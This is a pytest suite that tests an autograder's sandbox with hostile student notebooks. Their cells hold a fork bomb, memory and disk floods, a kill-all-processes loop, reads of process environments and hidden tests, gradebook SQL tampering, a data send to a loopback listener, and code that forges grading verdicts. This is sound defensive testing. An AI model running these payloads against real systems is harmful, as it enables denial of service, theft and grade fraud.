"""The attack suite: hostile students in a real class run, with honest students around them.

One class of lesson 9.1 is graded by ``course-admin autograde`` (2 workers, the bubblewrap
sandbox on): three honest students (reference, planted bugs, valid alternatives), and hostile
students whose notebooks are correct except for one extra cell (or one or two lines in a graded
function) that attacks the grader. Each hostile student gets what its notebook earned; the honest
students' grades are exactly as without them; nothing outside the sandbox changes; nothing the
students started survives; feedback holds no hidden test; the report names what each one tried.

The in-kernel tampering attacks (displayhook, guard replacement + patched comparisons, a wrapped
run_cell with a silenced traceback) each come with a control student who submits the same bug
alone: the attacker must score exactly what the control scores, and the control must lose points.
A smaller class run each of 9.3 and 9.5 (no preflight) holds the reference (full marks),
the forged verdicts, the liar and the monkeypatcher (zero), and for 9.5 a notebook that patches the
records of the stand-ins its tests build in the kernel (with a planted bug, against its control:
it regains the one cell INSTRUCTOR.md's threat model says it can, and no other); no hidden-test
line reaches any feedback or autograded notebook.
Skips (saying why) where the sandbox cannot start; ./test.sh installs bubblewrap.
"""

from __future__ import annotations

import html
import json
import os
import re
import socket
import sqlite3
import stat
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from course.build_lessons import trusted_tests
from tests.conftest import ROOT
from tests.grading import students as S
from tests.grading.harness import Lesson, VariantFile
from tests.nbgrader_course import SANDBOX_MISSING, Course
from tests.test_autograder import hidden_lines, instructor

pytestmark = pytest.mark.skipif(
    SANDBOX_MISSING is not None, reason=f"no sandbox: {SANDBOX_MISSING}"
)

LESSON = "9.1"
MARK = "h15sbx" + str(os.getpid())  # in the command line of every process a student starts
SECRET = "grader-secret-" + str(os.getpid())

# Each attack is one code cell inserted after the lesson's first code cell. ROOT_/REPO_/PORT_/MARK_
# are replaced by the course root, the repository, the listener's port and the marker. An attack
# that fails raises (uncaught), so the report names what it tried.

# Floods of the folders a kernel can write (issue 22, item 6): the ipc folder (where the kernel
# binds its sockets) and /dev/shm are tmpfs mounts of the sandbox's own with a size cap, and the
# host's ipc folder (which holds the connection files) takes no write from inside.
FLOOD = """
import os
from ipykernel.connect import get_connection_file
where = {"ipc": os.path.dirname(get_connection_file()), "shm": "/dev/shm", "tmp": "/tmp",
         "root": "/", "dev": "/dev", "run": "/run"}
chunk = b"x" * 65536
for name, folder in where.items():
    wrote = 0
    try:
        for i in range(100000):
            fd = os.open(os.path.join(folder, f"flood{i}"), os.O_WRONLY | os.O_CREAT)
            try:
                for _ in range(64):
                    wrote += os.write(fd, chunk)
            finally:
                os.close(fd)
    except OSError as err:
        print(name, "stopped:", err.strerror)
    print("WROTE", name, wrote)
try:
    with open(get_connection_file(), "a") as f:
        f.write("{}")
    print("WROTE connection-file")
except OSError as err:
    print("connection file:", err.strerror)
"""


# Links in the ipc folder (the grader reaches it through /proc/<pid>/root, where a link resolves
# against the grader's own root): the kernel's sockets renamed and their names made links to a
# host socket, and the grading channel's socket bound aside with a link at its name.
LINKS = """
import glob, os, socket
from ipykernel.connect import get_connection_file
_ipc = os.path.dirname(get_connection_file())
for _p in glob.glob(os.path.join(_ipc, "k-*")) + glob.glob(os.path.join(_ipc, "course-*")):
    os.rename(_p, _p + ".moved")  # the kernel's sockets, and the grading server bound at start
    os.symlink("HOSTSOCK_", _p)
_bind = socket.socket.bind
def _bind_aside(self, addr):
    if isinstance(addr, str) and os.path.basename(addr).startswith("course-"):
        _bind(self, addr + ".real")
        os.symlink("HOSTSOCK_", addr)
        return None
    return _bind(self, addr)
socket.socket.bind = _bind_aside
print("LINKED", sum(os.path.islink(p) for p in glob.glob(os.path.join(_ipc, "k-*"))),
      sum(os.path.islink(p) for p in glob.glob(os.path.join(_ipc, "course-*"))))
"""


# A fork bomb, bounded (at most 600 processes, each sleeping an hour): the sandbox's process cap
# stops it first (RLIMIT_NPROC; as root, where that does not bind, a pids cgroup).
FORK_BOMB = """
import os
kids = 0
try:
    for i in range(600):
        pid = os.fork()
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["sleep-MARK_", "3600"])  # the mark in its command line
            finally:
                os._exit(127)
        kids += 1
except OSError as err:
    print("stopped:", err.strerror)
print("STARTED", kids, "children")
raise RuntimeError(f"fork bomb: {kids} children started")
"""

CELLS = {
    "read_sources": """
import glob, os, sys
found = glob.glob("ROOT_/source_notebooks/*/*.ipynb") + glob.glob("REPO_/source_notebooks/*/*.ipynb")
for p in [os.getcwd(), *sys.path, os.environ.get("PYTHONPATH", "")]:
    found += glob.glob(os.path.join(p, "..", "..", "..", "source_notebooks", "*", "*.ipynb"))
for f in found:
    print(open(f).read())
print(open("ROOT_/source_notebooks/9.1/9.1.ipynb").read())
""",
    "gradebook": """
import sqlite3
db = sqlite3.connect("file:ROOT_/gradebook.db?mode=rw", uri=True)
db.execute("create table hacked (x)")
db.execute("update grade set auto_score = 1000")
db.commit()
""",
    "write_helpers": """
open("REPO_/helpers/zz_MARK_.py", "w").write("raise SystemExit('pwned')")
""",
    "write_release": """
import os
for p in ["ROOT_/release/9.1/zz_MARK_.txt", "ROOT_/release/zz_MARK_.txt"]:
    try:
        open(p, "w").write("pwned")
    except OSError as e:
        print("refused:", e)
os.listdir("ROOT_/release/9.1")
open("ROOT_/release/9.1/zz_MARK_.txt", "w").write("pwned")
""",
    "other_student": """
open("ROOT_/submitted/alice_reference/9.1/9.1.ipynb", "w").write("{}")
""",
    "kill_parents": """
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as e:
        print(target, e)
os.kill(os.getpid(), signal.SIGKILL)  # and, if nothing else died, itself
""",
    "orphans": """
import subprocess, sys
for i in range(20):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "MARK_"],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    "fork_bomb": FORK_BOMB,  # how many it started: test_the_fork_bomb_stopped_at_the_process_cap
    "memory_bomb": """
import numpy as np
blocks = []
for i in range(6):
    b = np.ones(2**30 // 8)  # 1 GiB, touched
    blocks.append(b)
""",
    "disk_fill": """
import os
chunk = b"x" * (64 * 2**20)
for where in ["/tmp", os.getcwd()]:
    try:
        for i in range(40):
            with open(os.path.join(where, f"fill{i}"), "wb") as f:
                for _ in range(8):
                    f.write(chunk)
    except OSError as e:
        print(where, "stopped:", e)
with open("big", "wb") as f:
    f.write(chunk * 8)
""",
    "links": LINKS,  # test_links_in_the_sandbox_reach_no_host_socket
    "floods": FLOOD,  # what it wrote: test_the_floods_in_the_class_run_stopped_at_their_caps
    "network": """
import socket
s = socket.create_connection(("127.0.0.1", PORT_), timeout=5)
s.sendall(b"stolen")
""",
    "environment": """
import os
print(dict(os.environ))
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            print(p, open(f"/proc/{p}/environ").read(), open(f"/proc/{p}/cmdline").read())
        except OSError:
            pass
assert "H15_GRADER_SECRET" in os.environ, "no grader secret in my environment"
""",
    "home_and_host": """
import os
print(os.listdir("/"), os.listdir(os.path.expanduser("~")))
print(os.listdir("/root"))
""",
    # in-kernel tampering that must not help (item 6): hooks that leak test sources into feedback
    # (and every solution cell calls _leak() again: see the fixture)
    "leak_hook": """
import linecache
_seen = []
def _rec(info):
    _seen.append(getattr(info, "raw_cell", ""))
def _leak():
    print("\\n".join(_seen))
    for k, v in list(linecache.cache.items()):
        print("".join(v[2]) if len(v) > 2 else "")
    print("\\n".join(map(str, In)))
    get_ipython().events.register("pre_run_cell", _rec)
    get_ipython().events.register("post_run_cell", lambda result: _rec(result.info))
_leak()
""",
}

# Forged verdicts (issue 22): every graded function is written to get its answer from the grader
# instead of computing it. FN is replaced by the function's name. Each earns 0 on every test cell:
# the tests run in the grader's process, the kernel receives only function names and arguments.
FORGED = {
    # the calling test's frames: its source, its locals (a reference copy, expected values)
    "frames": """
def FN(*args, **kwargs):
    import inspect, sys
    f = sys._getframe(1)
    while f is not None:
        for name, v in {**f.f_globals, **f.f_locals}.items():
            if name.startswith("_ref_") and callable(v):
                return v(*args, **kwargs)
            if name in ("_want", "_ref", "_expected"):
                return v
        f = f.f_back
    for info in inspect.stack():
        src = "".join(info.code_context or [])
        if "HIDDEN" in src or "_ref_" in src:
            return src
    raise NotImplementedError("no frame to forge from")
""",
    # every object the collector knows: a reference copy, a guard's snapshot
    "gc": """
def FN(*args, **kwargs):
    import gc
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "_ref_FN":
            return obj(*args, **kwargs)
        if type(obj) is dict and "_want" in obj:
            return obj["_want"]
    raise NotImplementedError("nothing to forge from")
""",
    # the kernel's own message sending: every error becomes an ok, error outputs never leave
    "messages": """
def FN(*args, **kwargs):
    k = get_ipython().kernel
    if not getattr(k, "_forged", False):
        send = k.session.send
        def quiet(stream, msg_or_type, content=None, *a, **kw):
            if msg_or_type == "error":
                return None
            if isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count", 0),
                           "user_expressions": {}, "payload": []}
            return send(stream, msg_or_type, content, *a, **kw)
        k.session.send = quiet
        k._forged = True
    raise NotImplementedError
""",
    # the comparisons the tests use, patched (and put back by a profile hook before a guard looks)
    "comparisons": """
def FN(*args, **kwargs):
    import math, sys, numpy as np
    math.isclose = lambda *a, **k: True
    np.allclose = np.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
    sys.setprofile(lambda *a: None)
    return 0.0  # of the right type for p_info and expected_draws: in a kernel-side test, only
    # the patched comparisons would stand between it and the points
""",
    # opting out: break what the grader's channel needs, hoping for "grading failed" instead of 0
    "optout": """
def FN(*args, **kwargs):
    raise NotImplementedError
import threading, socket
threading.Thread = None
socket.socket = None
""",
    # hidden tests and reference copies read from any file the kernel can see
    "files": """
def FN(*args, **kwargs):
    import os
    g = globals()
    if "_found" not in g:  # one walk per kernel (the venv and /usr are skipped: library code)
        g["_found"] = ""
        for top in ("/", os.getcwd()):
            for d, dirs, files in os.walk(top):
                dirs[:] = [x for x in dirs if x not in ("proc", "sys", "dev", "usr", "site-packages")]
                for f in files:
                    try:
                        text = open(os.path.join(d, f), errors="ignore").read(2_000_000)
                    except OSError:
                        continue
                    if "BEGIN HIDDEN TESTS" in text or "def _ref_" in text:
                        g["_found"] += text[:2000]
        print(g["_found"])
    if g["_found"]:
        return g["_found"]
    raise NotImplementedError("no hidden test to be found")
""",
    # the grading channel itself, forged: every answer it sends is unreadable
    "channel": """
def FN(*args, **kwargs):
    import base64
    base64.b64encode = lambda *a, **k: b"AAAA"
    raise NotImplementedError
""",
}
# A correct notebook that records every argument its functions receive, writes them to files and
# prints them in a last cell: only what the visible tests pass can reach its notebook, because the
# hidden tests call the functions after the notebook has run, and what the kernel prints then goes
# nowhere. PROBE is a call that only a hidden test makes.
STASH_PROBE = "p_info(0.25, 4)"
STASH = """
import functools, json, os
_stash = []
def _record(fn):
    @functools.wraps(fn)
    def wrapped(*a, **k):
        _stash.append(repr(a))
        for p in ("stash.txt", "/tmp/stash.txt", os.path.expanduser("~/stash.txt")):
            with open(p, "a") as f:
                f.write(repr(a) + "\n")
        print("CALLED", repr(a))
        return fn(*a, **k)
    return wrapped
"""
# A correct notebook whose p_info raises, on the hidden-only probe, an exception that carries its
# arguments: the feedback may say that p_info raised ValueError, never with what message.
RAISE_ARGS = """
_p_info_ok = p_info
def p_info(p, G):
    if type(p) is float and p == 0.25 and G == 4:
        raise ValueError("ARGS=" + repr((p, G)))
    return _p_info_ok(p, G)
"""
STASH_PRINT = """
import glob
print("\n".join(_stash))
for p in glob.glob("*stash*") + glob.glob("/tmp/*stash*"):
    print(open(p).read())
"""

# Tampering inside a graded function, each with a control (the same bug alone).
TAMPER_FUNCTION = {
    # publishes an execute_result before the test's AssertionError
    "displayhook": ("verify_strict", '    import sys\n    sys.displayhook("ok")\n'),
    # replaces the guard by its well-known name, then disables the comparisons the tests use
    "guard": (
        "p_info",
        "    import sys, math, numpy as _n\n"
        "    sys._nbgrader_guard = lambda ns, fix: []\n"
        "    math.isclose = lambda *a, **k: True\n"
        "    _n.allclose = lambda *a, **k: True\n"
        "    _n.testing.assert_allclose = lambda *a, **k: None\n",
    ),
}
# A cell (after the first) that wraps run_cell so failing cells report success, with a bug.
RUN_CELL = """
_ip = get_ipython()
def _wrap(orig):
    def run(*a, **k):
        r = orig(*a, **k)
        try:
            r.error_in_exec = None
            r.error_before_exec = None
        except Exception:
            pass
        return r
    return run
def _wrap_async(orig):
    async def run(*a, **k):
        r = await orig(*a, **k)
        r.error_in_exec = None
        r.error_before_exec = None
        return r
    return run
_ip.run_cell = _wrap(_ip.run_cell)
_ip.run_cell_async = _wrap_async(_ip.run_cell_async)
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
"""


def _first_bug(function: str, lesson: str = LESSON, about: str = ""):
    """The first planted bug of ``function`` (whose description holds ``about``)."""
    return next(v for v in VariantFile.load(lesson).variants
                if v.kind == "bug" and v.function == function and about in v.description)  # fmt: skip


def _with_cell(code: str, nb=None):
    nb = nb or S.filled(LESSON)
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(code))
    return nb


def _tampered(function: str, lines: str):
    """The first planted bug of ``function`` with ``lines`` added at the top of its body."""
    bug = _first_bug(function)
    code = re.sub(rf"(def {function}\(.*?\):\n)", lambda m: m.group(1) + lines, bug.code, count=1,
                  flags=re.S)  # fmt: skip
    assert code != bug.code
    return S.filled(LESSON, [bug.__class__(bug.kind, bug.function, bug.description, code)])


def _forged_class(lesson: str) -> dict[str, tuple]:
    """The students of every class run here: the reference and the valid alternatives (full
    marks); one per forged verdict (``FORGED``, pasted into every graded function's solution cell
    of the release) and the lying and monkeypatching attackers (zero on every test cell)."""
    info = Lesson.load(lesson)
    full, zero = S.expected_points(lesson, set()), S.expected_points(lesson, set(info.test_cells))
    valid = [v for v in VariantFile.load(lesson).variants if v.kind == "valid"]
    subs = {"alice_reference": (S.filled(lesson), full),
            "carol_alternatives": (S.filled(lesson, valid), full)}  # fmt: skip
    for name, template in FORGED.items():
        nb = S.release_nb(lesson)
        for fn, gid in info.function_cell.items():
            cell = next(
                c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid
            )
            cell.source = (cell.source + "\n" + template.replace("FN", fn)).replace(
                "_ref_FN", "_ref_" + fn
            )
        subs[f"x_forged_{name}"] = (nb, zero)
    for kind in ("liar", "monkeypatch"):
        subs[f"x_{kind}"] = S.attacker(lesson, kind)
    return subs


def _submit(course: Course, lesson: str, subs: dict[str, tuple]) -> None:
    for student, (nb, _) in subs.items():
        dest = course.root / "submitted" / student / lesson
        dest.mkdir(parents=True)
        nbformat.write(nb, dest / f"{lesson}.ipynb")
        (dest / "timestamp.txt").write_text("2026-11-29 10:00:00.000000 UTC")


def _shown(course: Course, lesson: str):
    """(student, what the student is shown, the student's own submission as text) for every
    feedback file of ``lesson``: the feedback's text and every output of the autograded notebook
    (stream text, plain-text results, error messages and tracebacks)."""
    for f in sorted((course.root / "feedback").glob(f"*/{lesson}/{lesson}.html")):
        student = f.parent.parent.name
        texts = [html.unescape(re.sub(r"<[^>]+>", "", f.read_text()))]
        graded = nbformat.read(course.root / "autograded" / student / lesson / f"{lesson}.ipynb", 4)
        for out in (o for c in graded.cells for o in c.get("outputs", [])):
            texts += [out.get("text", ""), out.get("data", {}).get("text/plain", ""),
                      out.get("evalue", ""), *out.get("traceback", [])]  # fmt: skip
        own = "\n".join(c.source for c in nbformat.read(
            course.root / "submitted" / student / lesson / f"{lesson}.ipynb", as_version=4).cells)  # fmt: skip
        yield student, re.sub(r"\x1b\[[0-9;]*m", "", "\n".join(texts)), own


@pytest.fixture(scope="module")
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def unix_listener(tmp_path_factory):
    """A host Unix socket nothing in a sandbox can see: a grader that connected through a link
    would reach it."""
    path = tmp_path_factory.mktemp("host") / "h.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(path))
    srv.listen(8)
    srv.setblocking(False)
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory, listener, unix_listener):

    course = Course(tmp_path_factory.mktemp("attacked") / "course", [LESSON])
    course.release(LESSON)
    info = Lesson.load(LESSON)
    full = S.expected_points(LESSON, set())
    subs = _forged_class(LESSON)
    fill = {"ROOT_": str(course.root), "REPO_": str(ROOT), "PORT_": str(listener.getsockname()[1]),
            "MARK_": MARK, "HOSTSOCK_": unix_listener.getsockname()}  # fmt: skip
    for name, code in CELLS.items():
        for k, v in fill.items():
            code = code.replace(k, v)
        subs[f"x_{name}"] = (_with_cell(code), full)
    # the fork bomb's sleeping children hold the whole process cap, and the memory bomb keeps what
    # it could allocate, so neither kernel could start a thread after its notebook ran: the grading
    # server's thread was started with the kernel, and both keep their honest marks (full)
    # its grading channel cannot be reached (a link is never connected to): fail-closed, zero
    subs["x_links"] = (subs["x_links"][0], S.expected_points(LESSON, set(info.test_cells)))
    for cell in subs["x_leak_hook"][0].cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
            cell.source += "\n_leak()\n"
    for name, (fn, lines) in TAMPER_FUNCTION.items():
        subs[f"x_tamper_{name}"] = (_tampered(fn, lines), None)
        subs[f"ctl_{name}"] = (S.filled(LESSON, [_first_bug(fn)]), None)
    subs["x_tamper_run_cell"] = (
        _with_cell(RUN_CELL, S.filled(LESSON, [_first_bug("p_info")])),
        None,
    )
    subs["ctl_run_cell"] = (S.filled(LESSON, [_first_bug("p_info")]), None)
    nb = _with_cell(STASH)
    for fn, gid in info.function_cell.items():
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
        cell.source += f"\n{fn} = _record({fn})\n"
    nb.cells.append(nbformat.v4.new_code_cell(STASH_PRINT))
    subs["x_stash"] = (nb, full)
    nb = S.filled(LESSON)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "p_info")
    cell.source += "\n" + RAISE_ARGS
    subs["x_raise_args"] = (nb, S.expected_points(LESSON, {"test_p_info"}))
    _submit(course, LESSON, subs)
    # a submission folder holding a symlink (collect never makes one): refused before grading
    link = course.root / "submitted" / "x_symlink" / LESSON
    link.mkdir(parents=True)
    nbformat.write(S.filled(LESSON), link / f"{LESSON}.ipynb")
    (link / "timestamp.txt").write_text("2026-11-29 10:00:00.000000 UTC")
    (link / "leak").symlink_to(course.root / "source_notebooks")
    before = {
        p: p.read_bytes()
        for p in [
            *(course.root / "release").rglob("*"),
            *(course.root / "source_notebooks").rglob("*"),
            *(course.root / "submitted").rglob("*.ipynb"),
        ]  # fmt: skip
        if p.is_file() and not p.is_symlink()
    }
    os.environ["H15_GRADER_SECRET"] = SECRET
    try:
        report = instructor.autograde(LESSON, workers=2, timeout=60, root=course.root)
    finally:
        del os.environ["H15_GRADER_SECRET"]
    course.nbgrader("generate_feedback", LESSON, "--force")
    del info
    return course, subs, report, before


def _scores(course):
    return course.scores(LESSON)


def _tests_only(per: dict, lesson: str = LESSON) -> dict:
    tests = set(Lesson.load(lesson).test_cells)
    return {c: v for c, v in per.items() if c in tests}


def test_honest_and_hostile_students_get_what_their_notebooks_earned(attacked):
    course, subs, report, _ = attacked
    got = {s: _tests_only(per) for s, per in _scores(course).items()}
    wrong = {s: (got.get(s), want) for s, (_, want) in subs.items() if want and got.get(s) != want}
    assert not wrong, f"graded wrongly (got, expected): {wrong}"
    assert set(report["graded"]) == set(subs), report["failed"]


def test_the_floods_in_the_class_run_stopped_at_their_caps(attacked):
    from course.grading import sandbox

    course, *_ = attacked
    graded = nbformat.read(course.root / "autograded" / "x_floods" / LESSON / f"{LESSON}.ipynb", 4)
    text = "".join(o.get("text", "") for c in graded.cells for o in c.get("outputs", []))
    wrote = {m[0]: int(m[1]) for m in re.findall(r"WROTE (\w+) (\d+)", text)}
    limits = sandbox.Limits()
    assert set(wrote) == {"ipc", "shm", "tmp", "root", "dev", "run"}, text
    assert wrote["root"] == wrote["dev"] == wrote["run"] == 0, wrote  # read-only
    assert wrote["ipc"] <= limits.ipc_kb * 1024 and wrote["shm"] <= limits.shm_mb * 2**20, wrote
    assert wrote["tmp"] <= limits.tmp_mb * 2**20, wrote


def test_links_in_the_sandbox_reach_no_host_socket(attacked, unix_listener):
    course, *_ = attacked
    nb = nbformat.read(course.root / "autograded" / "x_links" / LESSON / f"{LESSON}.ipynb", 4)
    outs = [o for c in nb.cells for o in c.get("outputs", [])]
    # all five of the kernel's names and the grading server's socket were links
    assert "LINKED 5 1" in "".join(o.get("text", "") for o in outs)
    errors = " ".join(o.get("evalue", "") for o in outs)
    assert "unable to serve them" in errors, errors[-1000:]  # the channel: a link, refused
    with pytest.raises(BlockingIOError):
        unix_listener.accept()  # no connection from the grader, through any link


def test_the_fork_bomb_stopped_at_the_process_cap(attacked):
    from course.grading import sandbox

    if not sandbox.process_cap_binds():
        pytest.skip("grading as root where no pids cgroup can be made: no process cap binds")

    course, *_ = attacked
    nb = course.root / "autograded" / "x_fork_bomb" / LESSON / f"{LESSON}.ipynb"
    text = "".join(o.get("text", "") for c in nbformat.read(nb, 4).cells
                   for o in c.get("outputs", []))  # fmt: skip
    started = [int(n) for n in re.findall(r"STARTED (\d+) children", text)]
    cap = sandbox.Limits().processes  # tasks (threads too): the kernel's own take a few dozen
    assert started and cap - 64 <= started[0] < cap, text[-2000:]
    errors = " ".join(o.get("evalue", "") for c in nbformat.read(nb, 4).cells
                      for o in c.get("outputs", []))  # fmt: skip
    # no thread could start after the bomb, yet the functions were graded (full marks: checked
    # in test_honest_and_hostile_...): the grading server's thread started with the kernel
    assert "unable to serve them" not in errors and "fork bomb" in errors, errors[-1000:]


def test_tampering_inside_the_kernel_earns_nothing_the_bug_alone_does_not(attacked):
    course, _, _, _ = attacked
    got = {s: _tests_only(per) for s, per in _scores(course).items()}
    full = S.expected_points(LESSON, set())
    for name in [*TAMPER_FUNCTION, "run_cell"]:
        _no_more_than_the_bug(name, got[f"ctl_{name}"], got[f"x_tamper_{name}"], full)


def _no_more_than_the_bug(name: str, control: dict, attacker: dict, full: dict) -> None:
    """The attacker (a planted bug plus tampering) scores no cell above the control (the bug
    alone), and the control loses points (else the comparison proves nothing)."""
    assert control != full, f"the control bug for {name} loses no points: the test is void"
    more = {c: (attacker[c], control[c]) for c in control if attacker[c] > control[c]}
    assert not more, f"{name}: tampering earned points the bug alone does not: {more}"
    assert attacker != full


def test_forged_verdicts_earn_nothing_and_the_honest_stash_takes_no_hidden_input_home(attacked):
    """Issue 22's classes of forgery (frames, gc, message patching, patched comparisons, files,
    a forged channel, lying objects) each score 0 in a real class run; a correct notebook that
    records every argument keeps full marks and its outputs hold no argument only a hidden test
    passes."""
    course, subs, _, _ = attacked
    got = {s: _tests_only(per) for s, per in _scores(course).items()}
    zero = S.expected_points(LESSON, set(Lesson.load(LESSON).test_cells))
    for name in [*FORGED, "liar", "monkeypatch"]:
        student = f"x_forged_{name}" if name in FORGED else f"x_{name}"
        assert got[student] == zero, f"{student} earned points: {got[student]}"
    assert got["x_stash"] == S.expected_points(LESSON, set()), got["x_stash"]
    release = (ROOT / "release" / LESSON / f"{LESSON}.ipynb").read_text()
    assert STASH_PROBE not in release and STASH_PROBE in "\n".join(
        t.code for t in trusted_tests(LESSON).values()
    ), "the probe must be a call that only a hidden test makes"
    probe = repr((0.25, 4))
    raised = course.root / "feedback" / "x_raise_args" / LESSON / f"{LESSON}.html"
    text = html.unescape(re.sub(r"<[^>]+>", "", raised.read_text()))
    assert "p_info raised ValueError" in text and "ARGS=(" not in text and probe not in text, (
        "a hidden call's exception message reached the feedback"
    )
    for path in [
        course.root / "autograded" / "x_stash" / LESSON / f"{LESSON}.ipynb",
        course.root / "feedback" / "x_stash" / LESSON / f"{LESSON}.html",
    ]:
        text = path.read_text()
        assert "CALLED" in text or "(0.5, 2)" in text, f"{path}: the stash printed nothing visible"
        assert probe not in text, f"{path}: a hidden test's argument reached the notebook"


def test_the_class_run_finished_and_the_report_names_each_attempt(attacked):
    course, subs, report, _ = attacked
    assert report["sandbox"] == "bubblewrap"
    assert report["limits"]["memory_mb"] == 4096
    saved = json.loads((course.root / "autograded" / f"report-{LESSON}.json").read_text())
    assert saved["graded"] == report["graded"]
    symlinked = [f for f in report["failed"] if f["student"] == "x_symlink"]
    assert symlinked and "symlink" in symlinked[0]["reason"], report["failed"]
    recs = report["students"]
    for name in CELLS:
        if name in ("orphans", "leak_hook", "home_and_host", "floods"):
            continue  # these succeed at what they do inside the sandbox; their effect is checked
        rec = recs[f"x_{name}"]
        said = " ".join(rec.get("errors", []) + rec.get("safety_events", []))
        assert said, f"x_{name}: the report does not say what it tried: {rec}"
    assert "MemoryError" in " ".join(recs["x_memory_bomb"].get("errors", [])), recs["x_memory_bomb"]
    assert "killed the kernel" in " ".join(recs["x_kill_parents"].get("safety_events", [])), recs[
        "x_kill_parents"
    ]
    assert any("network" in e.lower() or "refused" in e.lower() or "unreachable" in e.lower()
               for e in recs["x_network"]["errors"]), recs["x_network"]  # fmt: skip


def test_nothing_outside_the_sandbox_changed(attacked, listener):
    course, _, _, before = attacked
    changed = [str(p) for p, data in before.items() if not p.exists() or p.read_bytes() != data]
    assert not changed, f"changed by a student: {changed}"
    assert not list(ROOT.glob(f"helpers/zz_{MARK}*")), "a student wrote into helpers/"
    assert not list(course.root.glob(f"release/**/zz_{MARK}*")), "a student wrote into release/"
    with sqlite3.connect(course.root / "gradebook.db") as db:
        tables = {r[0] for r in db.execute("select name from sqlite_master")}
        top = db.execute("select max(auto_score) from grade").fetchone()[0]
    assert "hacked" not in tables and top is not None and top <= 10, (tables, top)
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody connected to the host's loopback


def test_nothing_a_student_started_is_still_running(attacked):
    deadline = time.monotonic() + 20  # a wait for processes to be reaped, not a timing assertion
    while True:
        alive = []
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode()
                except OSError:
                    continue
                if MARK in cmd and "pytest" not in cmd:
                    alive.append((p, cmd[:80]))
        if not alive or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert not alive, f"still running after the class run: {alive[:5]}"


def test_no_hidden_test_no_secret_no_course_file_in_any_output(attacked):
    course, _, _, _ = attacked
    hidden = hidden_lines(LESSON)
    src = nbformat.read(course.root / "source_notebooks" / LESSON / f"{LESSON}.ipynb", 4)
    solution_lines = {
        ln.strip()
        for c in src.cells
        for block in re.findall(r"### BEGIN SOLUTION(.*?)### END SOLUTION", c.source, re.S)
        for ln in block.splitlines()
        if len(ln.strip()) >= 30
    }
    for student, text, own in _shown(course, LESSON):
        leaked = [ln for ln in hidden | solution_lines if ln in text and ln not in own]
        assert not leaked, f"{student}'s feedback shows hidden tests or solutions: {leaked[:3]}"
        assert SECRET not in text, f"{student}'s feedback shows the grader's environment"
    for nb in (course.root / "autograded").glob(f"*/{LESSON}/{LESSON}.ipynb"):
        assert SECRET not in nb.read_text(), f"{nb}: the grader's environment reached the kernel"
    nb = nbformat.read(
        course.root / "autograded" / "x_home_and_host" / LESSON / f"{LESSON}.ipynb", 4
    )
    seen = json.dumps([c.get("outputs", []) for c in nb.cells])
    for name in ("gradebook.db", "source_notebooks", "submitted", "autograded", "nbgrader_config"):
        assert name not in seen, f"the sandbox shows {name} to a student"


# ---------------------------------------------------------------------------------------------
# the forged verdicts in a smaller class run of 9.3 and of 9.5 (whose tests use live stand-ins)

# A cell at the top of a 9.5 notebook that patches helpers/standins.py in the kernel, where the
# tests build their stand-ins: a frozen AbsPosLM (stand_in_trainer's reference) records each of
# its forward calls as made under no_grad. With the planted bug that scores the reference with
# gradient enabled, the records then say what a correct train_step's would.
STANDINS_PATCH = """
import helpers.standins as _standins
_forward = _standins.AbsPosLM.forward
def _forged_forward(self, *a, **k):
    out = _forward(self, *a, **k)
    if not any(p.requires_grad for p in self.parameters()):
        self.calls[-1]["grad"] = False
    return out
_standins.AbsPosLM.forward = _forged_forward
"""
STANDINS_BUG = ("train_step", "(a) the reference scored with gradient enabled")


@pytest.fixture(scope="module", params=["9.3", "9.5"])
def forged_class(request, tmp_path_factory):
    """One class of ``lesson`` graded by ``instructor.autograde`` (2 workers, sandboxed): the
    reference, one student per forged verdict, the liar and the monkeypatcher; for 9.5 also the
    patched stand-ins with a planted bug, and its control."""
    lesson = request.param
    course = Course(tmp_path_factory.mktemp(f"forged{lesson}") / "course", [lesson])
    course.release(lesson)
    # the valid alternatives keep full marks in tests/test_autograder.py's class of this lesson
    subs = {k: v for k, v in _forged_class(lesson).items() if k != "carol_alternatives"}
    if lesson == "9.5":
        bug = _first_bug(STANDINS_BUG[0], lesson, STANDINS_BUG[1])
        subs["x_standins"] = (_with_cell(STANDINS_PATCH, S.filled(lesson, [bug])), None)
        subs["ctl_standins"] = (S.filled(lesson, [bug]), None)
    _submit(course, lesson, subs)
    t0 = time.monotonic()
    # no preflight (the attacked class above runs one): alice's full marks show the grader works
    report = instructor.autograde(lesson, workers=2, timeout=120, root=course.root, check=False)
    print(f"\n{lesson}: {len(subs)} students graded in {time.monotonic() - t0:.0f} s")
    course.nbgrader("generate_feedback", lesson, "--force")
    return lesson, course, subs, report


def test_forged_verdicts_earn_nothing_and_honest_students_keep_full_marks(forged_class):
